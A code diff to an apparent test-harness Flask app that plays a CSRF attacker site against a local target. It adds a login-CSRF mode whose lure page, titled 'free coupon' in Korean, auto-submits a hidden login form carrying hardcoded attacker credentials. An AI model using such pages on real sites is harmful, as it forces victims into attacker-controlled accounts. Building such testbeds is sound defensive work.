@@ -8,7 +8,9 @@
   a cross-site ``POST /transfer`` as a plain HTML form (what any site can do), ``fetch``
   sends it from JavaScript with ``credentials: "include"`` *and* an ``X-Requested-With``
   header (a non-simple request: the browser asks the target first with a CORS preflight).
-  The page writes what its script saw into ``<pre id="report">``.
+  The page writes what its script saw into ``<pre id="report">``. ``how=login`` submits a
+  cross-site ``POST /login`` form with the *attacker's* account (``ATTACKER_ACCOUNT``): login
+  CSRF, the victim's browser then works in the attacker's account.
 
 Run it on another port (``127.0.0.1``) or another name (``evil.test`` via
 ``infra.browser.Profile(hosts=...)``) than the target app: then it is another origin or site.
@@ -22,7 +24,9 @@ from collections import deque
 
 from flask import Flask, request
 
-__all__ = ["create_token_attacker_app"]
+__all__ = ["create_token_attacker_app", "ATTACKER_ACCOUNT"]
+
+ATTACKER_ACCOUNT = ("mallory", "mallory-pw")  # the account a login-CSRF page logs its victim into
 
 
 def create_token_attacker_app(name: str = "token-attacker") -> Flask:
@@ -52,7 +56,12 @@ def create_token_attacker_app(name: str = "token-attacker") -> Flask:
         target = request.args.get("target", "")
         if not target.startswith("http://") or any(c in target for c in "\"'<> "):
             return "target=http://... 가 필요합니다", 400
-        how = "fetch" if request.args.get("how") == "fetch" else "form"
+        how = request.args.get("how") if request.args.get("how") in ("fetch", "login") else "form"
+        if how == "login":
+            user, password = ATTACKER_ACCOUNT
+            return _LOGIN_CSRF_PAGE.format(
+                action=html.escape(target.rstrip("/") + "/login"), user=user, password=password
+            )
         return (
             _CSRF_PAGE.replace("__TARGET__", json.dumps(target.rstrip("/")))
             .replace("__HOW__", json.dumps(how))
@@ -80,3 +89,9 @@ if (HOW === 'form') {
       JSON.stringify({how: HOW, blocked: String(e)}); });
 }
 </script></body></html>"""
+
+_LOGIN_CSRF_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>무료 쿠폰!</title></head>
+<body><pre id="report">{{"how": "login", "submitted": true}}</pre>
+<form id="f" method="post" action="{action}">
+<input type="hidden" name="username" value="{user}"><input type="hidden" name="password" value="{password}">
+</form><script>document.getElementById('f').submit();</script></body></html>"""
